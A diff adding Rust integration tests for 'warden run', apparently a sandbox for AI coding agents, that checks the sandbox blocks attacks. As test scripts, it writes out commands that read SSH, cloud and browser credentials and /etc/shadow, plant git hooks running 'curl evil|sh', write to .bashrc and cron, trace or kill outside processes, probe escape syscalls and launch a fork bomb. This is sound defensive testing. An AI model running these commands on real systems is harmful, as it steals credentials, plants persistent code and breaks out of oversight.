@@ -1,0 +1,468 @@
+//! Integration tests for `warden run`: real sandboxed processes. Each "must fail" case runs
+//! the attack inside the sandbox, asserts it failed, and checks the host was not touched;
+//! each "must work" case asserts the everyday workflow still runs.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+
+struct T {
+    root: PathBuf,
+    home: PathBuf,
+    ws: PathBuf,
+}
+
+impl T {
+    /// A scratch tree: `home` (a fake $HOME with fake credentials) and `home/proj` (the workspace).
+    fn new(name: &str) -> T {
+        let root = std::env::temp_dir().join(format!("warden-it-{name}-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&root);
+        let home = root.join("home");
+        let ws = home.join("proj");
+        std::fs::create_dir_all(&ws).unwrap();
+        T { root, home, ws }
+    }
+
+    fn write(&self, rel: &str, text: &str) -> PathBuf {
+        let p = self.home.join(rel);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(&p, text).unwrap();
+        p
+    }
+
+    fn cmd(&self, args: &[&str]) -> Command {
+        let mut c = Command::new(env!("CARGO_BIN_EXE_warden"));
+        c.arg("run").args(args);
+        c.current_dir(&self.ws).env("HOME", &self.home).stdin(Stdio::null());
+        c
+    }
+
+    /// `warden run [args] -- bash -c script`
+    fn sh_with(&self, args: &[&str], script: &str) -> Output {
+        let mut c = self.cmd(args);
+        c.args(["--", "/bin/bash", "-c", script]);
+        c.output().expect("spawn warden")
+    }
+
+    fn sh(&self, script: &str) -> Output {
+        self.sh_with(&[], script)
+    }
+
+    fn policy(&self, text: &str) -> String {
+        let p = self.root.join("policy.toml");
+        std::fs::write(&p, text).unwrap();
+        p.display().to_string()
+    }
+}
+
+impl Drop for T {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.root);
+    }
+}
+
+fn out(o: &Output) -> String {
+    format!("status {:?}\n--stdout--\n{}\n--stderr--\n{}", o.status, String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr))
+}
+
+fn ok(o: &Output) -> String {
+    assert!(o.status.success(), "expected success:\n{}", out(o));
+    String::from_utf8_lossy(&o.stdout).into_owned()
+}
+
+#[test]
+fn credentials_and_other_projects_are_unreadable() {
+    let t = T::new("creds");
+    let secrets = [
+        ".ssh/id_ed25519", ".aws/credentials", ".config/gcloud/credentials.db", ".kube/config",
+        ".docker/config.json", ".netrc", ".git-credentials", ".config/gh/hosts.yml",
+        ".gnupg/private-keys-v1.d/k.key", ".password-store/bank.gpg", ".mozilla/firefox/p/logins.json",
+        ".config/google-chrome/Default/Login Data", "other-project/.env", "other-project/src/main.rs",
+    ];
+    for s in secrets {
+        t.write(s, "TOPSECRET\n");
+    }
+    t.write("proj/readme.txt", "hello\n");
+    let mut script = String::from("cat readme.txt; ");
+    for s in secrets {
+        script.push_str(&format!("cat \"$HOME/{s}\" 2>/dev/null && echo \"LEAK {s}\"; "));
+    }
+    script.push_str("ls -a \"$HOME\"; grep -r TOPSECRET / --include='*' -s -l 2>/dev/null | head -5; true");
+    let o = t.sh(&script);
+    let stdout = ok(&o);
+    assert!(stdout.starts_with("hello"), "workspace must stay readable:\n{}", out(&o));
+    assert!(!stdout.contains("LEAK"), "a credential leaked:\n{}", out(&o));
+    assert!(!stdout.contains("TOPSECRET"), "secret content leaked:\n{}", out(&o));
+    assert!(!stdout.contains(".ssh") && !stdout.contains("other-project"), "home listing shows hidden entries:\n{}", out(&o));
+}
+
+#[test]
+fn system_secret_files_are_hidden() {
+    let t = T::new("shadow");
+    let o = t.sh("cat /etc/shadow | grep -c root || echo nothing; head -1 /etc/passwd");
+    let s = ok(&o);
+    assert!(s.contains("nothing") || s.starts_with('0'), "{}", out(&o));
+    assert!(s.contains("root:x:0:0"), "/etc/passwd must stay readable:\n{}", out(&o));
+}
+
+#[test]
+fn writes_outside_the_workspace_never_reach_the_host() {
+    let t = T::new("writes");
+    let rc = t.write(".bashrc", "# original\n");
+    let sibling = t.home.join("other-project");
+    std::fs::create_dir_all(&sibling).unwrap();
+    let targets = [
+        "$HOME/.bashrc", "$HOME/.profile", "$HOME/.config/autostart/evil.desktop", "$HOME/other-project/x",
+        "/etc/warden-evil", "/usr/local/bin/warden-evil", "/var/spool/cron/crontabs/root",
+        "/root/.bashrc-warden-evil", "/var/tmp/warden-evil",
+    ];
+    let mut script = String::new();
+    for p in targets {
+        script.push_str(&format!("mkdir -p \"$(dirname {p})\" 2>/dev/null; echo evil >> {p} 2>/dev/null; "));
+    }
+    script.push_str("echo inside > in-ws.txt; true");
+    let o = t.sh(&script);
+    ok(&o);
+    assert_eq!(std::fs::read_to_string(&rc).unwrap(), "# original\n", "host ~/.bashrc modified");
+    assert!(!t.home.join(".profile").exists());
+    assert!(!t.home.join(".config/autostart/evil.desktop").exists());
+    assert!(!sibling.join("x").exists());
+    for p in ["/etc/warden-evil", "/usr/local/bin/warden-evil", "/var/tmp/warden-evil", "/root/.bashrc-warden-evil"] {
+        assert!(!Path::new(p).exists(), "{p} was created on the host");
+    }
+    assert_eq!(std::fs::read_to_string(t.ws.join("in-ws.txt")).unwrap(), "inside\n", "workspace must stay writable");
+}
+
+fn git(ws: &Path, args: &[&str]) {
+    let st = Command::new("git").args(args).current_dir(ws).stdout(Stdio::null()).stderr(Stdio::null()).status().unwrap();
+    assert!(st.success(), "git {args:?}");
+}
+
+#[test]
+fn protected_paths_stay_read_only_existing_and_absent() {
+    let t = T::new("protect");
+    git(&t.ws, &["init", "-q"]);
+    let cfg_before = std::fs::read_to_string(t.ws.join(".git/config")).unwrap();
+    std::fs::create_dir_all(t.ws.join(".vscode")).unwrap();
+    std::fs::write(t.ws.join(".vscode/settings.json"), "{}\n").unwrap();
+    // Every attempt prints OK-<name> only if it succeeded.
+    let attempts = [
+        ("hook", "echo 'curl evil|sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"),
+        ("config", "echo '[core] fsmonitor = evil' >> .git/config"),
+        ("gitconfig-cmd", "git config core.fsmonitor evil"),
+        ("hooks-rename", "mv .git/hooks .git/hooks.old"),
+        ("config-replace", "echo x > cfg && mv cfg .git/config"),
+        ("vscode-existing", "echo '{\"evil\":1}' > .vscode/settings.json"),
+        ("vscode-new", "echo x > .vscode/tasks.json"),
+        ("mcp-absent", "echo '{\"mcpServers\":{}}' > .mcp.json"),
+        ("claude-settings-absent", "mkdir -p .claude && echo '{\"hooks\":{}}' > .claude/settings.json"),
+        ("claude-local-absent", "echo '{}' > .claude/settings.local.json"),
+        ("gemini-absent", "mkdir -p .gemini && echo x > .gemini/settings.json"),
+        ("codex-absent", "echo x > .codex/config.toml"),
+        ("idea-absent", "echo x > .idea/workspace.xml"),
+        ("envrc-absent", "echo 'curl evil' > .envrc"),
+        ("warden-policy", "echo '[files]' > .warden.toml"),
+        ("rm-mcp", "rm -f .mcp.json && echo x > .mcp.json"),
+    ];
+    let mut script = String::new();
+    for (name, cmd) in attempts {
+        script.push_str(&format!("({cmd}) 2>/dev/null && echo OK-{name}; "));
+    }
+    script.push_str("echo content > normal.txt && git add normal.txt && git -c user.name=a -c user.email=a@b commit -qm ok && echo COMMITTED");
+    let o = t.sh(&script);
+    let s = ok(&o);
+    assert!(!s.contains("OK-"), "a protected path was writable:\n{}", out(&o));
+    assert!(s.contains("COMMITTED"), "git commit must keep working:\n{}", out(&o));
+    assert_eq!(std::fs::read_to_string(t.ws.join(".git/config")).unwrap(), cfg_before);
+    assert!(!t.ws.join(".git/hooks/pre-commit").exists());
+    assert_eq!(std::fs::read_to_string(t.ws.join(".vscode/settings.json")).unwrap(), "{}\n");
+    // Placeholders were cleaned up.
+    for p in [".mcp.json", ".claude", ".gemini", ".codex", ".idea", ".envrc", ".warden.toml"] {
+        assert!(!t.ws.join(p).exists(), "placeholder {p} left behind");
+    }
+}
+
+#[test]
+fn git_init_inside_works_and_cannot_plant_hooks() {
+    let t = T::new("gitinit");
+    let script = "git init -q . && echo 'curl evil|sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
+                  echo '[core] fsmonitor = evil' >> .git/config; sleep 0.3; \
+                  echo '#!/bin/sh' > .git/hooks/post-checkout 2>/dev/null && echo OK-late-hook; \
+                  git config core.fsmonitor evil 2>/dev/null && echo OK-late-config; \
+                  echo hi > a && git add a && git -c user.name=a -c user.email=a@b commit -qm one && echo COMMITTED";
+    let o = t.sh(script);
+    let s = ok(&o);
+    assert!(s.contains("COMMITTED"), "{}", out(&o));
+    assert!(!s.contains("OK-late"), "hooks/config writable after git init:\n{}", out(&o));
+    let hooks: Vec<_> = std::fs::read_dir(t.ws.join(".git/hooks"))
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .filter(|n| !n.ends_with(".sample"))
+        .collect();
+    assert!(hooks.is_empty(), "planted hooks survived: {hooks:?}\n{}", out(&o));
+    let cfg = std::fs::read_to_string(t.ws.join(".git/config")).unwrap();
+    assert!(!cfg.contains("fsmonitor"), "config kept a planted key:\n{cfg}");
+}
+
+#[test]
+fn agent_settings_in_state_dir_are_read_only() {
+    let t = T::new("claudestate");
+    t.write(".claude/settings.json", "{\"permissions\":{}}\n");
+    let o = t.sh_with(
+        &["--profile", "claude"],
+        "echo '{\"hooks\":{}}' > ~/.claude/settings.json 2>/dev/null && echo OK-edit; \
+         echo '{}' > ~/.claude/settings.local.json 2>/dev/null && echo OK-local; \
+         mkdir -p ~/.claude/projects && echo log > ~/.claude/projects/x.jsonl && echo STATE-OK",
+    );
+    let s = ok(&o);
+    assert!(!s.contains("OK-"), "{}", out(&o));
+    assert!(s.contains("STATE-OK"), "the agent's state dir must stay writable:\n{}", out(&o));
+    assert_eq!(std::fs::read_to_string(t.home.join(".claude/settings.json")).unwrap(), "{\"permissions\":{}}\n");
+    assert!(t.home.join(".claude/projects/x.jsonl").exists());
+    assert!(!t.home.join(".claude/settings.local.json").exists());
+}
+
+struct Victim(std::process::Child);
+impl Drop for Victim {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+fn victim() -> Victim {
+    Victim(
+        Command::new("/bin/sleep")
+            .arg("300")
+            .env("VICTIM_SECRET", "hunter2")
+            .stdin(Stdio::null())
+            .spawn()
+            .unwrap(),
+    )
+}
+
+#[test]
+fn outside_processes_cannot_be_signalled_traced_or_read() {
+    let t = T::new("procs");
+    let mut v = victim();
+    let pid = v.0.id();
+    let script = format!(
+        "kill -TERM {pid} 2>/dev/null && echo OK-kill; kill -9 1 2>/dev/null; \
+         cat /proc/{pid}/environ 2>/dev/null | tr '\\0' '\\n' | grep VICTIM && echo OK-environ; \
+         ls /proc | grep -qx {pid} && echo OK-visible; \
+         /usr/bin/python3 -c 'import ctypes,sys; l=ctypes.CDLL(None,use_errno=True); sys.exit(0 if l.ptrace(16,{pid},0,0)==0 else 1)' && echo OK-ptrace; \
+         /usr/bin/python3 -c 'import ctypes,sys; l=ctypes.CDLL(None,use_errno=True); r=l.ptrace(0,0,0,0); print(\"ptrace-errno\",ctypes.get_errno())'; \
+         echo ALIVE"
+    );
+    let o = t.sh(&script);
+    let s = ok(&o);
+    assert!(!s.contains("OK-"), "{}", out(&o));
+    assert!(s.contains("ptrace-errno 1"), "ptrace must fail with EPERM:\n{}", out(&o));
+    assert!(s.contains("ALIVE"), "kill -9 1 must not end the sandbox:\n{}", out(&o));
+    assert!(v.0.try_wait().unwrap().is_none(), "the outside process was killed");
+}
+
+#[test]
+fn outside_abstract_socket_is_unreachable() {
+    use std::os::linux::net::SocketAddrExt;
+    let t = T::new("abstract");
+    let name = format!("warden-test-{}", std::process::id());
+    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
+    let l = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
+    l.set_nonblocking(true).unwrap();
+    let script = format!(
+        "/usr/bin/python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"\\0{name}\"); print(\"OK-connected\")' 2>&1; \
+         /usr/bin/python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.bind(\"\\0inner-{name}\"); s.listen(); c=socket.socket(socket.AF_UNIX); c.connect(\"\\0inner-{name}\"); print(\"INNER-OK\")'"
+    );
+    let o = t.sh(&script);
+    let s = ok(&o);
+    assert!(!s.contains("OK-connected"), "{}", out(&o));
+    assert!(s.contains("INNER-OK"), "abstract sockets inside the sandbox must work:\n{}", out(&o));
+    assert!(l.accept().is_err(), "the outside listener saw a connection");
+}
+
+#[test]
+fn namespaces_mounts_io_uring_and_keyring_are_denied() {
+    let t = T::new("syscalls");
+    let script = r#"
+unshare -r true 2>/dev/null && echo OK-unshare
+unshare -rm mount -t tmpfs none /tmp 2>/dev/null && echo OK-unshare-mount
+mount -t tmpfs none /tmp 2>/dev/null && echo OK-mount
+/usr/bin/python3 - <<'PY'
+import ctypes, os
+l = ctypes.CDLL(None, use_errno=True)
+def sc(nr, *a):
+    r = l.syscall(nr, *a)
+    return r, ctypes.get_errno()
+buf = ctypes.create_string_buffer(256)
+r, e = sc(425, 8, buf)            # io_uring_setup
+print("io_uring", r, e)
+r, e = sc(321, 0, 0, 0)           # bpf
+print("bpf", r, e)
+r, e = sc(250, 0, 0, 0, 0, 0)     # keyctl
+print("keyctl", r, e)
+r, e = sc(298, buf, 0, -1, -1, 0) # perf_event_open
+print("perf", r, e)
+r, e = sc(272, 0x10000000)        # unshare(CLONE_NEWUSER)
+print("unshare", r, e)
+PY
+"#;
+    let o = t.sh(script);
+    let s = ok(&o);
+    assert!(!s.contains("OK-"), "{}", out(&o));
+    assert!(s.contains("io_uring -1 38"), "io_uring must be ENOSYS:\n{}", out(&o));
+    for k in ["bpf -1 1", "keyctl -1 1", "perf -1 1", "unshare -1 1"] {
+        assert!(s.contains(k), "expected `{k}`:\n{}", out(&o));
+    }
+}
+
+#[test]
+fn tiocsti_is_denied() {
+    let t = T::new("tiocsti");
+    let script = r#"/usr/bin/python3 - <<'PY'
+import os, pty, fcntl, termios
+m, s = pty.openpty()
+try:
+    fcntl.ioctl(s, termios.TIOCSTI, b"x")
+    print("OK-tiocsti")
+except OSError as e:
+    print("denied", e.errno)
+PY"#;
+    let o = t.sh(script);
+    let s = ok(&o);
+    assert!(s.contains("denied 1"), "{}", out(&o));
+}
+
+#[test]
+fn fork_bomb_is_contained() {
+    let t = T::new("forkbomb");
+    let p = t.policy("[process]\npids_max = 64\n");
+    let script = r#"/usr/bin/python3 - <<'PY'
+import os, time
+n = 0
+try:
+    for _ in range(10000):
+        pid = os.fork()
+        if pid == 0:
+            time.sleep(30)
+            os._exit(0)
+        n += 1
+except OSError as e:
+    print("stopped", n, e.errno)
+else:
+    print("UNBOUNDED", n)
+PY"#;
+    let started = std::time::Instant::now();
+    let o = t.sh_with(&["--policy", &p], script);
+    let s = ok(&o);
+    assert!(s.contains("stopped"), "{}", out(&o));
+    let n: u32 = s.split_whitespace().nth(1).unwrap().parse().unwrap();
+    assert!(n < 64, "forked {n} processes past a limit of 64");
+    // The sleeping children died with the sandbox (init exit kills the pid namespace).
+    assert!(started.elapsed().as_secs() < 25, "sandbox did not end with the agent");
+}
+
+#[test]
+fn secrets_are_scrubbed_from_the_environment() {
+    let t = T::new("env");
+    let vars = [
+        ("GITHUB_TOKEN", "ghp_x"), ("AWS_SECRET_ACCESS_KEY", "aws"), ("MY_SERVICE_API_KEY", "k"),
+        ("DB_PASSWORD", "p"), ("SSH_AUTH_SOCK", "/tmp/ssh"), ("ANTHROPIC_API_KEY", "sk-ant"),
+        ("OPENAI_API_KEY", "sk-oa"), ("HARMLESS", "yes"),
+    ];
+    let mut c = t.cmd(&["--profile", "claude"]);
+    for (k, v) in vars {
+        c.env(k, v);
+    }
+    c.args(["--", "/usr/bin/env"]);
+    let o = c.output().unwrap();
+    let s = ok(&o);
+    for k in ["GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "MY_SERVICE_API_KEY", "DB_PASSWORD", "SSH_AUTH_SOCK", "OPENAI_API_KEY"] {
+        assert!(!s.contains(&format!("{k}=")), "{k} reached the agent:\n{s}");
+    }
+    assert!(s.contains("ANTHROPIC_API_KEY=sk-ant"), "claude profile passes ANTHROPIC_API_KEY:\n{s}");
+    assert!(s.contains("HARMLESS=yes"));
+    assert!(s.contains("TMPDIR=/tmp"));
+    // The generic profile scrubs the model key too.
+    let mut c = t.cmd(&[]);
+    c.env("ANTHROPIC_API_KEY", "sk-ant").args(["--", "/usr/bin/env"]);
+    let s = ok(&c.output().unwrap());
+    assert!(!s.contains("ANTHROPIC_API_KEY"), "{s}");
+}
+
+#[test]
+fn everyday_development_keeps_working() {
+    let t = T::new("dev");
+    // Real toolchains live under the real $HOME; name them as readable.
+    let real_home = PathBuf::from(std::env::var("HOME").unwrap_or_else(|_| "/root".into()));
+    let rustup = std::env::var("RUSTUP_HOME").map(PathBuf::from).unwrap_or(real_home.join(".rustup"));
+    let cargo = std::env::var("CARGO_HOME").map(PathBuf::from).unwrap_or(real_home.join(".cargo"));
+    let p = t.policy(&format!(
+        "[files]\nread = [\"{}\", \"{}\"]\n[env]\nset = {{ RUSTUP_HOME = \"{}\", CARGO_HOME = \"{}\" }}\n",
+        rustup.display(),
+        cargo.join("bin").display(),
+        rustup.display(),
+        cargo.display()
+    ));
+    std::fs::write(t.ws.join("hello.c"), "#include <stdio.h>\nint main(){puts(\"hello from c\");return 0;}\n").unwrap();
+    std::fs::write(t.ws.join("hello.rs"), "fn main(){println!(\"hello from rust\");}\n").unwrap();
+    let path = format!("{}:/usr/local/bin:/usr/bin:/bin", cargo.join("bin").display());
+    let mut c = t.cmd(&["--policy", &p]);
+    c.env("PATH", path).args([
+        "--",
+        "/bin/bash",
+        "-c",
+        "set -e; cc hello.c -o hello-c && ./hello-c; rustc -O hello.rs -o hello-rs && ./hello-rs; \
+         git init -q && git add hello.c && git -c user.name=a -c user.email=a@b commit -qm c && git log --oneline | wc -l; \
+         ls /usr/bin | grep -qx ls && echo USR-OK; echo tmp > \"$TMPDIR/x\" && cat \"$TMPDIR/x\"",
+    ]);
+    let o = c.output().unwrap();
+    let s = ok(&o);
+    for want in ["hello from c", "hello from rust", "USR-OK", "tmp"] {
+        assert!(s.contains(want), "missing `{want}`:\n{}", out(&o));
+    }
+}
+
+#[test]
+fn bad_input_never_runs_unsandboxed() {
+    let t = T::new("badinput");
+    let marker = t.ws.join("ran");
+    let cmd = format!("touch {}", marker.display());
+    // Unknown profile.
+    let o = t.sh_with(&["--profile", "nope"], &cmd);
+    assert_eq!(o.status.code(), Some(3), "{}", out(&o));
+    assert!(String::from_utf8_lossy(&o.stderr).contains("unknown profile"), "{}", out(&o));
+    // Malformed TOML with position.
+    let p = t.policy("[files\nread = 1\n");
+    let o = t.sh_with(&["--policy", &p], &cmd);
+    assert_eq!(o.status.code(), Some(3), "{}", out(&o));
+    assert!(String::from_utf8_lossy(&o.stderr).contains("policy.toml:1:"), "{}", out(&o));
+    // Unknown key.
+    let p = t.policy("[files]\nreed = []\n");
+    let o = t.sh_with(&["--policy", &p], &cmd);
+    assert_eq!(o.status.code(), Some(3), "{}", out(&o));
+    // Missing workspace.
+    let o = t.sh_with(&["--workspace", "/nonexistent/warden"], &cmd);
+    assert_eq!(o.status.code(), Some(5), "{}", out(&o));
+    // A widening workspace policy.
+    std::fs::write(t.ws.join(".warden.toml"), "[files]\nread = [\"/srv\"]\n").unwrap();
+    let o = t.sh(&cmd);
+    assert_eq!(o.status.code(), Some(3), "{}", out(&o));
+    assert!(String::from_utf8_lossy(&o.stderr).contains("may only narrow"), "{}", out(&o));
+    assert!(!marker.exists(), "the command ran despite bad input");
+}
+
+#[test]
+fn nested_warden_can_only_narrow() {
+    let t = T::new("nested");
+    let exe = env!("CARGO_BIN_EXE_warden");
+    // The inner warden sees the same binary (under /tmp or target dir, bound read-only? not
+    // necessarily visible) — copy it into the workspace.
+    std::fs::copy(exe, t.ws.join("warden")).unwrap();
+    t.write(".ssh/id_rsa", "TOPSECRET");
+    let o = t.sh("./warden run --best-effort -- /bin/bash -c 'cat ~/.ssh/id_rsa 2>/dev/null; echo inner-ran; echo x > /etc/nested-evil 2>/dev/null && echo OK-etc'; true");
+    let s = ok(&o);
+    assert!(s.contains("inner-ran"), "the nested warden must run its command (narrowing only):\n{}", out(&o));
+    assert!(!s.contains("TOPSECRET") && !s.contains("OK-etc"), "{}", out(&o));
+    assert!(!Path::new("/etc/nested-evil").exists());
+}
